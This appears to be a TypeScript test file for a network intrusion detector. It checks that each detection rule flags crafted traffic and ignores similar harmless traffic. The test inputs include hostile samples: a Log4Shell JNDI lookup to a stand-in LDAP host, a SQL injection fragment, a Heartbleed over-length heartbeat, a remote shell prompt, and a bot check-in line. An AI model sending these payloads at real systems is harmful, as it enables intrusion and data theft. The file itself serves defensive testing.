/** Watches of what needs no counting, each through frames, and beside what triggers it what looks like it and must stay silent. */
import assert from "node:assert/strict";
import { test } from "node:test";
import type { Watch } from "../model/finding.ts";
import { dialogue, type Said } from "../testing/dialogue.ts";
import { arp, bytes, ethernet, ipv4, ipv6, latin, u16, u32, udp, udpFrame } from "../testing/frames.ts";
import { hear } from "../testing/hear.ts";
import { hex } from "../testing/notes.ts";
import { foundLines } from "../testing/watched.ts";
import { watches } from "./index.ts";

const INSIDE = "10.0.0.7";
const SERVER = "10.0.0.66";
const OUTSIDE = "203.0.113.5";

/** What the watch of that name finds in these frames, with a pause of ten milliseconds between them. */
function found(name: string, frames: readonly Uint8Array[]): string[] {
  const watch = watches.find((it) => it.name === name) as Watch;
  return foundLines(hear(frames, { every: 0.01 }), [watch]);
}

const between = (client: string, server: string, port: number, ...said: Said[]) => dialogue({ client, server, port }, said);
const client = (text: string | Uint8Array): Said => ["client", typeof text === "string" ? latin(text) : text];
const server = (text: string | Uint8Array): Said => ["server", typeof text === "string" ? latin(text) : text];
const get = (address: string) => client(`GET ${address} HTTP/1.1\r\nHost: x\r\n\r\n`);
const OK = server("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");

test("a look-up is one finding of the server it was sent to, however often it comes", () => {
  const attack = [get("/?q=$%7Bjndi:ldap://x/a%7D"), OK, get("/?q=$%7Bjndi:ldap://x/b%7D"), OK];
  assert.deepEqual(found("injected-commands", between(INSIDE, SERVER, 80, ...attack)), [
    `injected-commands high ${SERVER} by ${INSIDE}: 2 requests by HTTP would make a program's log fetch something (Log4Shell)`,
  ]);
});

test("SQL toward the site's own counts, what people search for outside does not", () => {
  const search = [get("/?q=1'%20union%20select%202"), OK];
  assert.deepEqual(found("injected-commands", between(INSIDE, SERVER, 80, ...search)), [
    `injected-commands medium ${SERVER} by ${INSIDE}: 1 request by HTTP with SQL where a value belongs`,
  ]);
  assert.deepEqual(found("injected-commands", between(INSIDE, OUTSIDE, 80, ...search)), []);
  assert.deepEqual(found("injected-commands", between(INSIDE, SERVER, 80, get("/?name=O%27Brien"), OK)), []);
});

const RANDOM = "5a".repeat(32);
const HELLO = hex`16 0302 002d 01 000029 0302 ${RANDOM} 00 0002 002f 01 00`;
const ANSWER = hex`16 0302 002a 02 000026 0302 ${RANDOM} 00 002f 00`;
const heartbeat = (asked: number, brought: number) => bytes(hex`18 0302`, u16(3 + brought), [1], u16(asked), new Uint8Array(brought));

test("a heartbeat that asks for more than it brought is found, one of the right length is not", () => {
  const said = (beat: Uint8Array) => between(INSIDE, SERVER, 443, client(HELLO), server(ANSWER), client(beat));
  assert.deepEqual(found("heartbleed", said(heartbeat(0x4000, 3))), [
    `heartbleed high ${SERVER} by ${INSIDE}: 1 TLS heartbeat asked for more than it brought`,
  ]);
  assert.deepEqual(found("heartbleed", said(heartbeat(18, 34))), []);
});

const A = "02:00:00:00:00:01";
const B = "02:00:00:00:00:02";
const NO_CARD = "00:00:00:00:00:00";
const ODD = bytes(hex`0001 0800 06 80 0001`, new Uint8Array(268));

test("ARP with addresses of a wrong length is found the second time; once it may be a failing card's", () => {
  const odd = ethernet({ type: 0x0806, from: A, to: "ff:ff:ff:ff:ff:ff" }, ODD);
  assert.deepEqual(found("odd-arp", [odd, odd]), [`odd-arp low ${A}: 2 ARP messages with addresses of a wrong length`]);
  assert.deepEqual(found("odd-arp", [odd]), []);
  const right = ethernet({ type: 0x0806, from: A, to: B }, arp(1, [A, INSIDE], [B, SERVER]));
  assert.deepEqual(found("odd-arp", [right, right]), []);
});

test("an IPv6 packet that visits machines in turn is found, whole and in fragments; another routing header is not", () => {
  const routed = (type: number) => bytes([59, 2, type, 1], u32(0), new Uint8Array(16));
  const packet = (next: number, payload: Uint8Array) =>
    ethernet({ type: 0x86dd, from: A, to: B }, ipv6({ from: "2001:db8::1", to: "2001:db8::2", nextHeader: next }, payload));
  const line = "crafted-packets medium 2001:db8::2 by 2001:db8::1: 1 IPv6 packet that would visit machines in turn (routing header 0)";
  assert.deepEqual(found("crafted-packets", [packet(43, routed(0))]), [line]);
  assert.deepEqual(found("crafted-packets", [packet(44, bytes([43, 0, 0, 1], u32(7), routed(0)))]), [line]);
  assert.deepEqual(found("crafted-packets", [packet(43, routed(2))]), []);
});

test("packets from an address to itself are found; inside a tunnel, of loopback, garbled, or as a whole connection they are not", () => {
  const own = (ip: string, garbled = 0, [from, to] = [A, B]) => {
    const frame = ethernet({ type: 0x0800, from, to }, ipv4({ protocol: 17, from: ip, to: ip }, udp({ from: 9, to: 53 }, latin("hello"))));
    frame[25] = frame[25]! ^ garbled;
    return frame;
  };
  assert.deepEqual(found("crafted-packets", [own(INSIDE), own(INSIDE)]), [
    `crafted-packets medium ${INSIDE} by ${INSIDE}: 2 packets from an address to itself`,
  ]);
  assert.deepEqual(found("crafted-packets", [own(INSIDE, 1), own(INSIDE, 1)]), []);
  assert.deepEqual(found("crafted-packets", [own("127.0.0.1"), own("127.0.0.1")]), []);
  const toAll = own(INSIDE, 0, [A, "ff:ff:ff:ff:ff:ff"]);
  assert.deepEqual(found("crafted-packets", [toAll, toAll]), []);
  assert.deepEqual(found("crafted-packets", [own(INSIDE, 0, [NO_CARD, NO_CARD]), own(INSIDE, 0, [NO_CARD, NO_CARD])]), []);
  assert.deepEqual(found("crafted-packets", between(INSIDE, INSIDE, 80, get("/"), OK)), []);
  const tunnelled = ethernet(
    { type: 0x0800, from: A, to: B },
    ipv4({ protocol: 4, from: INSIDE, to: SERVER }, ipv4({ protocol: 17, from: INSIDE, to: INSIDE }, udp({ to: 53 }, latin("hello")))),
  );
  assert.deepEqual(found("crafted-packets", [tunnelled, tunnelled]), []);
});

test("a router's announcement in fragments is found; a ping in fragments is not", () => {
  const pieces = (message: Uint8Array, id: number) =>
    [0, 8].map((at) =>
      ethernet(
        { type: 0x86dd, from: A, to: B },
        ipv6(
          { from: "fe80::1", to: "fe80::2", nextHeader: 44 },
          bytes([58, 0], u16(at | (at === 0 ? 1 : 0)), u32(id), message.subarray(at, at + 8)),
        ),
      ),
    );
  assert.deepEqual(found("crafted-packets", pieces(hex`86 00 0000 40 00 0708 00000000 00000000`, 1)), [
    "crafted-packets medium fe80::2 by fe80::1: 1 message of IPv6 neighbor discovery in fragments",
  ]);
  assert.deepEqual(found("crafted-packets", pieces(hex`80 00 0000 0001 0001 4142434445464748`, 2)), []);
});

test("a prompt that a machine calls back with is found; a terminal by Telnet, and talk about prompts, are not", () => {
  const prompt = "Microsoft Windows XP [Version 5.1.2600]\r\n";
  assert.deepEqual(found("command-shell", between(INSIDE, OUTSIDE, 4321, client(prompt))), [
    `command-shell critical ${OUTSIDE} by ${INSIDE}: 1 command prompt in the clear on a connection of no protocol`,
  ]);
  assert.deepEqual(
    found("command-shell", between(INSIDE, SERVER, 23, server(bytes(hex`fffb01 fffb03 fffd18`, latin(prompt))), client(hex`fffd01`))),
    [],
  );
  assert.deepEqual(found("command-shell", between(INSIDE, SERVER, 4321, client("see C:\\> for more\r\n"))), []);
});

test("a machine that introduces itself to whoever steers it is found, after a greeting too; an agent's stock by HTTP, and a chat about systems, are not", () => {
  const introduction = "HELLO|10.0.0.7|XX|Windows 10 Pro|Intel(R) Core(TM) i5-2400 CPU @ 3.10GHz|8192 MB\r\n";
  const told = [`machine-introduced medium ${INSIDE} by ${OUTSIDE}: System and processor told in the clear on 1 connection of no protocol`];
  assert.deepEqual(found("machine-introduced", between(INSIDE, OUTSIDE, 4433, client(introduction))), told);
  assert.deepEqual(found("machine-introduced", between(INSIDE, OUTSIDE, 4433, server("WHO|556\r\n"), client(introduction))), told);
  const stock = `POST /stock HTTP/1.1\r\nHost: stock\r\nContent-Length: ${introduction.length}\r\n\r\n${introduction}`;
  assert.deepEqual(found("machine-introduced", between(INSIDE, SERVER, 80, client(stock))), []);
  assert.deepEqual(
    found("machine-introduced", between(INSIDE, SERVER, 4433, client("Is Windows 10 Pro any good on such a processor?\r\n"))),
    [],
  );
});

test("a program as the first that is said is found; the same behind a request for a file is not", () => {
  const elf = hex`7f454c46 02 01 01 00 0000000000000000 0200 3e00 01000000`;
  assert.deepEqual(found("program-pushed", [udpFrame({ to: 33_333, fromIp: INSIDE, toIp: SERVER }, elf)]), [
    `program-pushed low ${SERVER} by ${INSIDE}: 1 program sent outside every known protocol`,
  ]);
  assert.deepEqual(
    found(
      "program-pushed",
      between(INSIDE, SERVER, 80, get("/update"), server(bytes(latin(`HTTP/1.1 200 OK\r\nContent-Length: ${elf.length}\r\n\r\n`), elf))),
    ),
    [],
  );
});

test("a log-in to a mail server outside is found; to the hospital's own, and mail without one, are not", () => {
  const mail = (to: string, ...said: Said[]) =>
    between(INSIDE, to, 587, server("220 mail.example ESMTP\r\n"), client("EHLO ward\r\n"), ...said);
  const logIn = [server("250 AUTH LOGIN\r\n"), client("AUTH LOGIN\r\n")];
  assert.deepEqual(found("mail-log-in-outside", mail(OUTSIDE, ...logIn)), [
    `mail-log-in-outside medium ${INSIDE} by ${OUTSIDE}: 1 log-in in the clear to a mail server outside`,
  ]);
  assert.deepEqual(found("mail-log-in-outside", mail(SERVER, ...logIn)), []);
  assert.deepEqual(found("mail-log-in-outside", mail(OUTSIDE, server("250 SIZE\r\n"), client("MAIL FROM:<a@b.example>\r\n"))), []);
});

test("one machine that speaks Bitcoin with many is one finding; what only begins like it is none", () => {
  const version = hex`f9beb4d9 76657273696f6e0000000000 00000000 5df6e0e2`;
  const lines = found("bitcoin-spoken", [
    ...between(INSIDE, OUTSIDE, 8333, client(version)),
    ...between(INSIDE, "203.0.113.6", 8333, client(version)),
  ]);
  assert.deepEqual(lines, [`bitcoin-spoken low ${INSIDE} by ${OUTSIDE}, 203.0.113.6: 1 connection that spoke Bitcoin`]);
  assert.deepEqual(found("bitcoin-spoken", between(INSIDE, OUTSIDE, 8333, client(hex`f9beb4d9 ${new Uint8Array(40)}`))), []);
});

test("a server that speaks in the clear at a port for TLS is found; at its own port, with TLS, and a client's words alone are none", () => {
  const greeted = (port: number) => between(INSIDE, SERVER, port, server("220 mail.example ESMTP\r\n"), client("EHLO ward\r\n"));
  assert.deepEqual(found("clear-at-tls-port", greeted(465)), [
    `clear-at-tls-port medium ${SERVER} by ${INSIDE}: Answers in the clear at a port where protocols are encrypted`,
  ]);
  assert.deepEqual(found("clear-at-tls-port", greeted(25)), []);
  assert.deepEqual(found("clear-at-tls-port", between(INSIDE, SERVER, 465, client(HELLO), server(ANSWER))), []);
  assert.deepEqual(found("clear-at-tls-port", between(INSIDE, SERVER, 465, client("EHLO ward\r\n"))), []);
  assert.deepEqual(found("clear-at-tls-port", between(INSIDE, SERVER, 443, get("/"), OK)), []);
});
